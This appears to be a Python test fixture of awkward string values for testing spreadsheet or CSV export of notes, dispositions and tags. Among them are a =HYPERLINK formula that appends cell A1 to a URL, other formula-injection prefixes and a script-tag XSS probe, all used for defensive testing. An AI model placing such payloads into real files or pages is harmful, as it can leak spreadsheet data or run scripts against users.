"""Texts that people really type and that break careless programs. Values only."""

from __future__ import annotations

AWKWARD_NOTES = (
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "=1+1",
    "+1",
    "+1 (415) 555-0199 is the better number",
    "-foo",
    "-12.50",
    "@x",
    "'quoted like a number",
    "0042",
    "1e5",
    "TRUE",
    "2026-03-01",
    "3/4",
    "50%",
    "$1,234.50",
    "Very happy 😀👩‍👩‍👧‍👦🇳🇴",
    "שלום, הלקוח יחזור מחר",
    "مرحبا بك +966",
    "zero\u200bwidth and \u202eright to left\u202c mark",
    "first line\nsecond line\n\nfourth line",
    "carriage\r\nreturn",
    "a\ttab\tin\tbetween",
    "\ttab first",
    " space at both ends ",
    "bell \x07 and unit \x1f separator",
    "e\u0301 is two code points, é is one",
    "<script>alert('x')</script> & <b>bold</b>",
    '{"json": [1, 2, null]}',
    "semi;colon, comma, \"double\" 'single' \\back",
    "#REF!",
    "NULL",
    "nan",
    "漢字とカナ",
    "𝔘nicode beyond the first plane 𐐷",
)

AWKWARD_DISPOSITIONS = ("0042", "=SUM(A1:A9)", "Follow up, urgent", "+VIP", "N/A", "Größe geändert", "1")

AWKWARD_TAGS: tuple[tuple[str, ...], ...] = (
    ("0042",),
    ("a, b", "c"),
    tuple(f"campaign {number:03d}" for number in range(120)),
    ("", "empty before"),
    ("=1", "+2", "-3", "@4"),
    ("émigré", "🙂"),
    ("same", "same"),
)

TOO_LONG_NOTE = "Transcript: " + "x" * 49_988 + "!"
"""One character more than a cell takes."""
assert len(TOO_LONG_NOTE) == 50_001
